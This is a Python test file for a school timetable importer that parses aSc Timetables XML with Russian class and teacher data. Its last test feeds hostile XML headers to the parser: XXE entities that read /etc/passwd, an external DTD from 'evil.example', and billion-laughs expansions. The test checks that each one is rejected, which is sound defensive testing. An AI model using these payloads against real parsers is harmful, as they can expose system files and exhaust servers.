from __future__ import annotations

from pathlib import Path
from xml.sax.saxutils import quoteattr

import pytest

from eschool_core.errors import InputError
from eschool_core.imports.asc import read_asc
from eschool_core.imports.drafts import ActivityDraft, GroupDraft, StartDraft, TimetableDraft
from eschool_core.imports.timetable import read_any_timetable

WEEK = ("10000", "01000", "00100", "00010", "00001")
Attributes = dict[str, str]
Section = tuple[str, list[Attributes]]
LISTS: dict[str, Section] = {
    "periods": (
        "period",
        [
            {"period": "1", "name": "1", "starttime": "8:00", "endtime": "8:45"},
            {"period": "2", "name": "2", "starttime": "8:55", "endtime": "9:40"},
            {"period": "3", "name": "3", "starttime": "", "endtime": ""},
        ],
    ),
    "daysdefs": (
        "daysdef",
        [{"id": "X", "days": ",".join(WEEK)}, *({"id": day, "days": day} for day in WEEK)],
    ),
    "weeksdefs": ("weeksdef", [{"id": "A", "weeks": "1"}]),
    "subjects": (
        "subject",
        [{"id": "M", "name": "Математика"}, {"id": "E", "name": "Английский язык"}],
    ),
    "teachers": (
        "teacher",
        [
            {"id": "T1", "name": "Иванова А.", "lastname": "Иванова", "firstname": "Анна"},
            {"id": "T2", "name": "Петрова Ольга Ивановна"},
            {"id": "T3", "name": "Петрова Ольга Ивановна"},
        ],
    ),
    "classrooms": ("classroom", [{"id": "R", "name": "Кабинет 12", "short": "12"}]),
    "classes": ("class", [{"id": "C1", "name": "5А"}, {"id": "C2", "name": "5Б"}]),
    "groups": (
        "group",
        [
            {"id": "G0", "classid": "C1", "name": "Весь класс", "entireclass": "1"},
            {"id": "G1", "classid": "C1", "name": "1", "entireclass": "0", "studentcount": "13"},
            {"id": "G2", "classid": "C1", "name": "2", "entireclass": "0"},
        ],
    ),
}


def lesson(**changes: str) -> Attributes:
    return {
        "id": "L1",
        "subjectid": "M",
        "classids": "C1",
        "groupids": "G0",
        "teacherids": "T1",
        "classroomids": "",
        "periodspercard": "1",
        "periodsperweek": "1.0",
    } | changes


def card(**changes: str) -> Attributes:
    return {
        "lessonid": "L1",
        "classroomids": "R",
        "period": "2",
        "weeks": "1",
        "terms": "1",
        "days": "01000",
    } | changes


def asc(
    lessons: list[Attributes], cards: list[Attributes], encoding: str, lists: dict[str, Section]
) -> bytes:
    """Return a file as aSc Timetables writes it."""
    everything = {**LISTS, "lessons": ("lesson", lessons), "cards": ("card", cards), **lists}
    body = "".join(
        f"<{name}>"
        + "".join(
            f"<{tag} " + " ".join(f"{key}={quoteattr(value)}" for key, value in row.items()) + "/>"
            for row in rows
        )
        + f"</{name}>"
        for name, (tag, rows) in everything.items()
    )
    text = f'<?xml version="1.0" encoding="{encoding}"?><timetable>{body}</timetable>'
    return text.encode(encoding)


def read(lessons: list[Attributes], cards: list[Attributes], **lists: Section) -> TimetableDraft:
    return read_asc(asc(lessons, cards, "utf-8", lists))


def test_a_card_is_a_lesson_in_its_place() -> None:
    draft = read([lesson()], [card()])
    assert draft.activities == (
        ActivityDraft(1, "Математика", ("5А",), ("Иванова Анна",), 1, StartDraft(0, 1, 1), "12"),
    )
    assert (draft.weekdays, draft.cycle_weeks, draft.active, draft.periods_per_week) == (5, 1, 1, 1)
    assert [(one.start_minute, one.end_minute) for one in draft.periods] == [
        (480, 525), (535, 580), (None, None),
    ]  # fmt: skip


def test_classes_are_whole_groups_and_parts_are_named_after_them() -> None:
    draft = read([lesson(groupids="G1")], [card()])
    assert [(one.name, one.grade) for one in draft.classes] == [("5А", 5), ("5Б", 5)]
    assert draft.activities[0].groups == ("5А 1",)
    # A part that nothing is taught to would be a group without a journal.
    assert draft.groups == (
        GroupDraft("5А", ("5А",), whole=True),
        GroupDraft("5А 1", ("5А",), whole=False, size=13),
        GroupDraft("5Б", ("5Б",), whole=True),
    )


def test_two_teachers_of_one_name_are_two() -> None:
    draft = read([lesson(teacherids="T2,T3")], [card()])
    assert draft.activities[0].teachers == ("Петрова Ольга Ивановна", "Петрова Ольга Ивановна (2)")


def test_what_no_card_places_waits_for_a_slot() -> None:
    draft = read([lesson(periodsperweek="5", periodspercard="2")], [card(period="1")])
    assert [(one.duration, one.start is None) for one in draft.activities] == [
        (2, False),
        (2, True),
    ]
    assert draft.periods_per_week == 5


def test_two_weeks_take_turns() -> None:
    weeks = {"weeksdefs": ("weeksdef", [{"id": "A", "weeks": "11"}, {"id": "B", "weeks": "10,01"}])}
    cards = [card(weeks="10"), card(weeks="11", days="00001")]
    draft = read([lesson(periodsperweek="1.5")], cards, **weeks)
    starts = [one.start for one in draft.activities]
    assert draft.cycle_weeks == 2
    assert starts == [StartDraft(0, 1, 1), StartDraft(0, 4, 1), StartDraft(1, 4, 1)]


@pytest.mark.parametrize(
    ("changes", "place", "reason"),
    [
        ({"subjectid": "?"}, {}, "import.activity_unknown_subject"),
        ({"classids": "", "groupids": ""}, {}, "import.activity_without_students"),
        ({"groupids": "?"}, {}, "import.activity_unknown_students"),
        ({"teacherids": "T1,?"}, {}, "import.activity_unknown_teacher"),
        ({"periodspercard": "9"}, {}, "import.activity_duration"),
        ({}, {"days": "10"}, "import.activity_unknown_slot"),
        ({}, {"period": "7"}, "import.activity_unknown_slot"),
        ({}, {"weeks": "01"}, "import.activity_day_not_understood"),
        ({}, {"terms": "10"}, "import.activity_part_of_year"),
        ({"periodspercard": "2"}, {"period": "3"}, "import.activity_beyond_day"),
    ],
)
def test_what_cannot_be_taken_is_named(changes: Attributes, place: Attributes, reason: str) -> None:
    draft = read([lesson(**changes), lesson(id="L2")], [card(**place), card(lessonid="L2")])
    [left_out] = draft.not_taken
    assert (left_out.where, left_out.reason) == ("lesson 1", reason)
    assert len(draft.activities) == 1
    assert draft.active == 2


def test_a_lesson_without_a_teacher_is_taken() -> None:
    assert read([lesson(teacherids="")], [card()]).activities[0].teachers == ()


def test_the_encoding_of_russian_windows_is_read() -> None:
    [taken] = read_asc(asc([lesson()], [card()], "windows-1251", {})).activities
    assert taken.subject == "Математика"


@pytest.mark.parametrize("section", ["periods", "daysdefs"])
def test_a_file_without_its_grid_is_no_timetable(section: str) -> None:
    with pytest.raises(InputError) as refused:
        read([lesson()], [card()], **{section: ("nothing", [])})
    assert refused.value.key == "import.fet_section_missing"


def test_either_program_is_told_by_the_content(tmp_path: Path) -> None:
    data = asc([lesson()], [card()], "utf-8", {})
    assert len(read_any_timetable(data).activities) == 1
    with pytest.raises(InputError) as refused:
        read_any_timetable(data, b"<Activities/>")
    assert refused.value.key == "import.asc_placements"
    with pytest.raises(InputError) as neither:
        read_any_timetable(b"<other/>")
    assert neither.value.key == "import.xml_root"


@pytest.mark.asvs("row 79")
@pytest.mark.asvs("1.5.1")
@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE timetable [<!ENTITY x SYSTEM "/etc/passwd">]>',
        '<!DOCTYPE timetable [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE timetable SYSTEM "http://evil.example/x.dtd">',
        "<!DOCTYPE timetable>",
        '<!DOCTYPE timetable [<!ENTITY % p SYSTEM "/etc/passwd"> %p;]>',
        '<!DOCTYPE timetable [<!ENTITY l0 "ha">'
        + "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
        + "]>",
    ],
)
def test_no_document_type_is_read(head: str) -> None:
    hostile = asc([lesson()], [card()], "utf-8", {}).replace(
        b"<timetable>", head.encode() + b"<timetable>"
    )
    with pytest.raises(InputError) as refused:
        read_any_timetable(hostile)
    assert refused.value.key == "import.xml_forbidden"
